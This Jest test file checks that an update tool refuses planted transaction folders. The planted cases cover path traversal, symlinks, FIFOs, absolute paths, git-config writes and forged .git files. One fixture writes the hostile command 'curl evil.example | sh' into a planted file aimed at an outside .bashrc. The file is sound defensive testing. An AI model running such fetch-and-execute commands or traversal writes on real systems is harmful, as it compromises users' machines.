import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { ProblemError } from '../../../src/text/problem.ts';
import { acquire, release } from '../../../src/workspace/transaction/lock.ts';
import { withLock } from '../../../src/workspace/transaction/with-lock.ts';
import { endedProcess, HostileRepository } from '../../support/builders/hostile-repository.ts';
import { scratchFolders } from '../../support/tools/scratch-folder.ts';

const scratchFolder = scratchFolders();

const HOSTILE_STEPS = [
  { path: '../outside/.bashrc', before: true, after: true },
  { path: '../outside/planted', before: false, after: true },
  { path: '../outside/empty', before: true, after: false },
];

/** Fills a folder with an update that writes and deletes outside of the repository. */
function plantTransaction(hostile: HostileRepository, folder: string, owner: string): void {
  mkdirSync(folder, { recursive: true, mode: 0o700 });
  chmodSync(folder, 0o700);
  writeFileSync(join(folder, owner), '');
  writeFileSync(join(folder, 'journal.json'), JSON.stringify(HOSTILE_STEPS));
  cpSync(join(hostile.outside, '.bashrc'), join(folder, '0.before'));
  writeFileSync(join(folder, '0.after'), 'curl evil.example | sh\n');
  writeFileSync(join(folder, '1.after'), 'planted\n');
  writeFileSync(join(folder, '2.before'), '');
}

test('what version 0.2.0 would have finished is not used, and the person is asked to delete it', async () => {
  const hostile = new HostileRepository(scratchFolder());
  const folder = hostile.path('.gitlab-aws-oidc.update');
  plantTransaction(hostile, folder, `owner.${endedProcess()}.${encodeURIComponent(hostname())}`);
  const { exitCode, stdout } = await hostile.run('update');
  expect(hostile.harm()).toEqual(hostile.noHarm);
  expect(stdout).toContain(
    '! .gitlab-aws-oidc.update was left by an interrupted update of version 0.2.0, or came with the repository. It is not used. Delete it.\n',
  );
  expect(exitCode).toBe(0);
});

describe('a transaction that came with the repository', () => {
  test.each([
    ['with the name of this host', () => `owner.${endedProcess()}.${hostname()}`],
    ['with a number of a file', () => `owner.${endedProcess()}.12345678.${hostname()}`],
    ['with a name that is not an owner', () => 'owner'],
    ['with a name that cannot be decoded', () => `owner.1.1.%E0%A4%A`],
  ])('%s is not believed', async (_, owner) => {
    const hostile = new HostileRepository(scratchFolder());
    const folder = hostile.path('.gitlab-aws-oidc-update');
    plantTransaction(hostile, folder, owner());
    const { exitCode, stderr } = await hostile.run('update');
    expect(hostile.harm()).toEqual(hostile.noHarm);
    expect(stderr).toBe(
      `error ${folder}\n  It was not left by an update that you ran on this machine, so it is not used.\n  Delete it, then run this again.\n`,
    );
    expect(exitCode).toBe(2);
    rmSync(folder, { recursive: true });
    expect((await hostile.run('update')).exitCode).toBe(0);
  });

  test('has no effect in a clone: git has the transaction in its own folder', async () => {
    const hostile = new HostileRepository(scratchFolder(), { git: true });
    const folder = hostile.path('.gitlab-aws-oidc-update');
    plantTransaction(hostile, folder, `owner.${endedProcess()}.${hostname()}`);
    expect((await hostile.run('update')).exitCode).toBe(0);
    expect(hostile.harm()).toEqual(hostile.noHarm);
  });

  test.each([
    [
      'a link',
      (path: string, outside: string) => {
        symlinkSync(outside, path);
      },
    ],
    [
      'a file',
      (path: string) => {
        writeFileSync(path, '');
      },
    ],
    [
      'a FIFO',
      (path: string) => {
        execFileSync('mkfifo', [path]);
      },
    ],
    [
      'an empty folder that is not private',
      (path: string) => {
        mkdirSync(path);
        writeFileSync(join(path, 'x'), '');
      },
    ],
  ])('is refused as %s', async (_, make) => {
    const hostile = new HostileRepository(scratchFolder());
    const folder = hostile.path('.gitlab-aws-oidc-update');
    make(folder, hostile.outside);
    const { exitCode, stderr } = await hostile.run('update');
    expect(hostile.harm()).toEqual(hostile.noHarm);
    expect(stderr).toContain(`error ${folder}\n`);
    expect(exitCode).toBe(2);
  });
});

describe('a journal of this machine that is damaged', () => {
  test.each<[string, unknown]>([
    ['an object', {}],
    ['null', null],
    ['a number', 7],
    ['a list of null', [null]],
    ['a list of lists', [[]]],
    ['a path that is a number', [{ path: 1, before: true, after: true }]],
    ['a Boolean that is a word', [{ path: 'README.md', before: 'yes', after: true }]],
    ['a path of the folder above', HOSTILE_STEPS],
    ['an absolute path', [{ path: '/etc/motd', before: false, after: true }]],
    ["git's own folder", [{ path: '.git/config', before: false, after: true }]],
    ['a path with NUL', [{ path: 'README.md\0', before: false, after: true }]],
    ['another field', [{ path: 'README.md', before: true, after: true, mode: 4095 }]],
  ])('%s is refused, and what to delete is shown', async (_, journal) => {
    const hostile = new HostileRepository(scratchFolder());
    const { folder } = acquire(hostile.folder);
    plantTransaction(hostile, folder, 'x');
    writeFileSync(join(folder, 'journal.json'), JSON.stringify(journal));
    const recovery = withLock(hostile.folder, () => Promise.resolve());
    await expect(recovery).rejects.toThrow(ProblemError);
    await expect(recovery).rejects.toThrow(`Delete ${folder}, then run update again`);
    expect(hostile.harm()).toEqual(hostile.noHarm);
    rmSync(folder, { recursive: true });
    await expect(withLock(hostile.folder, () => Promise.resolve('ran'))).resolves.toBe('ran');
  });

  test.each<[string, (path: string, outside: string) => void]>([
    [
      'cut off',
      (path) => {
        writeFileSync(path, '[{"path":');
      },
    ],
    [
      'a folder',
      (path) => {
        mkdirSync(path);
      },
    ],
    [
      'a link',
      (path, outside) => {
        symlinkSync(join(outside, '.bashrc'), path);
      },
    ],
    [
      'a FIFO',
      (path) => {
        execFileSync('mkfifo', [path]);
      },
    ],
  ])('%s: the program ends with exit code 2, each time', async (_, make) => {
    const hostile = new HostileRepository(scratchFolder());
    const folder = hostile.leftByKilledRun();
    make(join(folder, 'journal.json'), hostile.outside);
    for (const time of ['first', 'second']) {
      const { exitCode, stderr } = await hostile.run('update');
      expect({ time, exitCode }).toEqual({ time, exitCode: 2 });
      expect(stderr).toContain(`error ${join(folder, 'journal.json')}\n`);
    }
    expect(hostile.harm()).toEqual(hostile.noHarm);
  });
});

describe('a text of a transaction', () => {
  /** A journal that replaces the README, which somebody edited since. */
  function interrupted(): { hostile: HostileRepository; folder: string } {
    const hostile = new HostileRepository(scratchFolder());
    const folder = hostile.leftByKilledRun();
    writeFileSync(join(folder, '0.before'), 'another\n');
    writeFileSync(join(folder, '0.after'), hostile.repository.read('README.md'));
    const steps = [{ path: 'README.md', before: true, after: true }];
    writeFileSync(join(folder, 'journal.json'), JSON.stringify(steps));
    return { hostile, folder };
  }

  test('that a link is in the place of is not written through it', async () => {
    const { hostile, folder } = interrupted();
    symlinkSync(join(hostile.outside, '.bashrc'), join(folder, '0.after.merged'));
    expect((await hostile.run('update')).exitCode).toBe(0);
    expect(hostile.harm()).toEqual(hostile.noHarm);
  });

  test.each(['0.before', '0.after'])('that is a link is not read: %s', async (name) => {
    const { hostile, folder } = interrupted();
    rmSync(join(folder, name));
    symlinkSync(join(hostile.outside, '.bashrc'), join(folder, name));
    const { exitCode, stderr } = await hostile.run('update');
    expect(stderr).toContain(`error ${join(folder, name)}\n  It is a symbolic link.`);
    expect(exitCode).toBe(2);
    expect(hostile.repository.read('README.md')).not.toContain('EDITOR');
  });

  test('does not take its place through a folder that is a link', async () => {
    const { hostile, folder } = interrupted();
    const steps = [{ path: 'terraform/planted', before: false, after: true }];
    writeFileSync(join(folder, 'journal.json'), JSON.stringify(steps));
    rmSync(hostile.path('terraform'), { recursive: true });
    symlinkSync(hostile.outside, hostile.path('terraform'));
    const { exitCode, stderr } = await hostile.run('update');
    expect(stderr).toContain(`error ${hostile.path('terraform')}\n  It is a symbolic link.`);
    expect(exitCode).toBe(2);
    expect(hostile.harm()).toEqual(hostile.noHarm);
  });
});

describe('a .git that is a file', () => {
  test('is not followed: nothing is written where it leads', async () => {
    const hostile = new HostileRepository(scratchFolder());
    execFileSync('git', ['init', '--quiet', join(hostile.outside, 'other')]);
    writeFileSync(hostile.path('.git'), `gitdir: ${join(hostile.outside, 'other/.git')}\n`);
    const lock = acquire(hostile.folder);
    expect(lock.folder).toBe(hostile.path('.gitlab-aws-oidc-update'));
    release(lock);
    expect((await hostile.run('update')).exitCode).toBe(0);
    expect(existsSync(hostile.path('.gitlab-aws-oidc-update'))).toBe(false);
  });

  test.each(['gitdir: /dev/zero\n', 'gitdir: nowhere\n', '', 'x'.repeat(100_000)])(
    'may hold anything (%#)',
    async (text) => {
      const hostile = new HostileRepository(scratchFolder());
      writeFileSync(hostile.path('.git'), text);
      expect((await hostile.run('update')).exitCode).toBe(0);
      expect(hostile.harm()).toEqual(hostile.noHarm);
    },
  );

  test('as in a worktree of git, does not keep an update from working', async () => {
    const hostile = new HostileRepository(scratchFolder(), { git: true });
    const worktree = join(hostile.folder, '../worktree');
    execFileSync('git', ['worktree', 'add', '--quiet', worktree], { cwd: hostile.folder });
    cpSync(hostile.path('gitlab-aws-oidc.yaml'), join(worktree, 'gitlab-aws-oidc.yaml'));
    expect((await hostile.run('update', worktree)).exitCode).toBe(0);
    const status = execFileSync('git', ['status', '--porcelain'], { cwd: worktree });
    expect(status.toString()).not.toContain('??');
  });
});
